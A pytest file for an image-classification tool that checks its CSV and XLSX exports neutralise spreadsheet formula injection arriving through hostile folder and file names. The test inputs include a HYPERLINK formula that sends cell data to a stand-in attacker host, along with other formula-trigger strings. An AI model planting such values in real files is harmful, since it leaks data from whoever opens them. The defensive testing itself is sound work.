"""Tables FlowClass writes cannot run formulas in a spreadsheet (issue 15, item 3).

Hostile folder and file names (a shared bundle's, or any user's) reach every table:
images.csv / images.xlsx of an export, Save Table, a label file. None may
become a formula cell; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from PIL import Image
from test_export_hardening import ctx, export, labelling

from nodes.export import save_table

HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A2,"Open")', "+SUM(1;2)", "-2+3", "@cmd",
           "\tTAB", "=2+3", "'=quoted"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_images(folder: Path) -> list[Path]:
    """One real PNG per hostile name: the name is both a folder and a file name."""
    paths = []
    for i, name in enumerate(HOSTILE):
        path = folder / name / f"{name}.png"
        path.parent.mkdir(parents=True)
        Image.fromarray(np.full((8, 8, 3), i * 30, dtype=np.uint8)).save(path)
        paths.append(path)
    return paths


def formula_cells(xlsx: Path) -> list[str]:
    """Every cell of the workbook that a spreadsheet would compute, read from its XML."""
    with zipfile.ZipFile(xlsx) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in book.read(n) or b"<f " in book.read(n)]


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def assert_csv_is_inert(path: Path) -> list[list[str]]:
    rows = csv_rows(path)
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or _is_number(cell), (path.name, cell)
    return rows


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_an_exports_tables_hold_hostile_names_as_text_and_numbers_as_numbers(tmp_path):
    paths = hostile_images(tmp_path / "shared")
    table, _ = export(tmp_path, labelling(paths, HOSTILE), tmp_path / "out", table="csv+xlsx")
    xlsx, csv_file = tmp_path / "out" / "images.xlsx", tmp_path / "out" / "images.csv"

    assert formula_cells(xlsx) == []
    sheet = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    rows = [[c for c in row] for row in sheet.iter_rows(min_row=2)]
    sources = [row[header.index("source")].value for row in rows]
    assert sources == [str(p) for p in paths]  # the text exactly as it is, not a formula
    assert [row[header.index("cluster")].value for row in rows] == HOSTILE
    assert all(row[header.index("score")].data_type == "n" for row in rows)

    rows = assert_csv_is_inert(csv_file)
    header, body = rows[0], rows[1:]
    # a cell starting with a formula character got a leading ' (OWASP's rule), nothing else changed
    assert [r[header.index("cluster")] for r in body] == \
        [("'" + h) if h.startswith(TRIGGERS) or h.startswith("'=") else h for h in HOSTILE]
    scores = pd.read_csv(csv_file)["score"]
    assert scores.dtype == np.float64 and np.allclose(scores, table["score"])


def test_save_table_writes_hostile_text_as_text_in_xlsx_and_csv(tmp_path):
    data = pd.DataFrame({"path": HOSTILE, "n": np.arange(len(HOSTILE)) - 3,
                         "x": np.linspace(-1, 1, len(HOSTILE))})
    for name in ("t.xlsx", "t.csv"):
        save_table(ctx(tmp_path), data=data, embeddings=None, path=str(tmp_path / name))
    assert formula_cells(tmp_path / "t.xlsx") == []
    back = pd.read_excel(tmp_path / "t.xlsx")
    assert back["path"].tolist() == HOSTILE
    assert back["n"].tolist() == list(range(-3, len(HOSTILE) - 3))  # negative numbers stay numbers
    assert_csv_is_inert(tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["n"].dtype == np.int64 and back["n"].tolist() == list(range(-3, len(HOSTILE) - 3))


def test_xlsx_keeps_each_text_exactly_but_a_control_character_it_cannot_hold(tmp_path):
    """XML has no place for most control characters (openpyxl refuses them): those become
    U+FFFD, as README says; a tab and a line break, which it holds, stay."""
    names = ["evil\x1b[2J.png", "a\tb", "two\nlines", "=1+1", "caf\u00e9"]
    save_table(ctx(tmp_path), data=pd.DataFrame({"path": names}), embeddings=None, path=str(tmp_path / "t.xlsx"))
    assert formula_cells(tmp_path / "t.xlsx") == []
    assert pd.read_excel(tmp_path / "t.xlsx")["path"].tolist() == ["evil\ufffd[2J.png", *names[1:]]


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''=x", "-1.5", "+3", "1e-3", "plain", "\r\n=x", " cats ",
                                  "cats\t", "'a'", "''", "' =x '", "\n"])
def test_a_label_file_gives_back_exactly_the_labels_written(tmp_path, text):
    """Exactly: a folder named ' cats' or '\tTAB' came back trimmed, so Keep changed its label."""
    from nodes.lib.classify.label_overrides import read_label_file, set_label

    path = tmp_path / "labels.csv"
    set_label(path, "ab" * 32, f"{text}.png", text)
    assert_csv_is_inert(path)
    row = read_label_file(path).iloc[0]
    assert (row["path"], row["label"]) == (f"{text}.png", text)


def test_the_canvas_csv_download_is_neutralised_too(tmp_path):
    from flowclass.viewers.tables import csv_bytes

    path = tmp_path / "download.csv"
    path.write_bytes(csv_bytes(pd.DataFrame({"name": HOSTILE, "n": range(-3, len(HOSTILE) - 3)})))
    assert_csv_is_inert(path)
    assert pd.read_csv(path)["n"].tolist() == list(range(-3, len(HOSTILE) - 3))


def test_evaluation_and_confusion_tables_hold_hostile_class_names_as_text(tmp_path):
    """Class names come from folder names or a shared model: evaluation.csv and
    confusion_matrix.csv of a run neutralise them; the counts stay numbers."""
    from nodes.classify import _evaluate_reports, _evaluation
    from nodes.datatypes import ImageSet, Labelling

    truth = np.array(HOSTILE * 2)
    guess = np.roll(truth, 1)
    n = len(truth)
    images = ImageSet(np.array([f"/p/{i}.png" for i in range(n)]), truth, np.array(["0" * 64] * n),
                      np.full(n, 8, np.int32), np.full(n, 8, np.int32), "/p")
    evaluation = _evaluation(Labelling(images, guess, np.ones(n), "prediction", tuple(HOSTILE)))

    class Source:
        def output(self, port):
            return evaluation

    for name, write in _evaluate_reports(Source()).items():
        if name.endswith(".csv"):
            write(tmp_path / name)
            rows = assert_csv_is_inert(tmp_path / name)
            assert any(cell.lstrip("'") in HOSTILE and cell != cell.lstrip("'") for row in rows for cell in row)
    counts = pd.read_csv(tmp_path / "confusion_matrix.csv").iloc[:, 1:]
    assert all(dtype == np.int64 for dtype in counts.dtypes) and counts.to_numpy().sum() == n


@pytest.mark.slow
def test_the_cleaning_tables_hold_hostile_labels_as_text(registry, cache, tmp_path):
    """label_issues.csv names each image's folder label and the suggested one; duplicates.csv
    and outliers.csv their paths: a folder named like a formula stays text in all three, as
    ``flowclass run`` of clean_collection writes them; scores stay numbers."""
    from classify_helpers import run

    from flowclass.safe_tables import restore

    rng = np.random.default_rng(0)
    folder = tmp_path / "collection"
    for name in HOSTILE:
        (folder / name).mkdir(parents=True)
        for k in range(4):
            Image.fromarray(rng.integers(0, 256, (16, 16, 3), dtype=np.uint8)).save(folder / name / f"{k}.png")
    shutil.copyfile(folder / HOSTILE[1] / "0.png", folder / HOSTILE[2] / "copy.png")  # a duplicate group
    nodes = [("import", "import_images", {"folder": str(folder)}),
             ("embed", "embed", {"backend": "pixels", "pixel_size": 8}),
             ("duplicates", "find_duplicates", {}), ("issues", "find_label_issues", {}),
             ("outliers", "find_outliers", {})]
    result = run(registry, cache, nodes, [("import.images", "embed.images"),
                                          *(("embed.embeddings", f"{n}.embeddings")
                                            for n in ("duplicates", "issues", "outliers"))], tmp_path / "out")
    assert result.ok, [o.error for o in result.failed]
    for node, name in (("duplicates", "duplicates.csv"), ("issues", "label_issues.csv"),
                       ("outliers", "outliers.csv")):
        class Source:
            def output(self, port, node=node):
                return result.output(node, port)

        write = registry.get(result.workflow.node(node).type).reports(Source())[name]
        write(tmp_path / name)
        assert len(assert_csv_is_inert(tmp_path / name)) > 1
    issues = pd.read_csv(tmp_path / "label_issues.csv", dtype=str, keep_default_na=False)
    assert {restore(label) for label in issues["label"]} == {Path(name).parts[0] for name in HOSTILE}
    assert pd.read_csv(tmp_path / "label_issues.csv")["score"].dtype == np.float64
    assert pd.read_csv(tmp_path / "duplicates.csv")["group"].dtype == np.int64
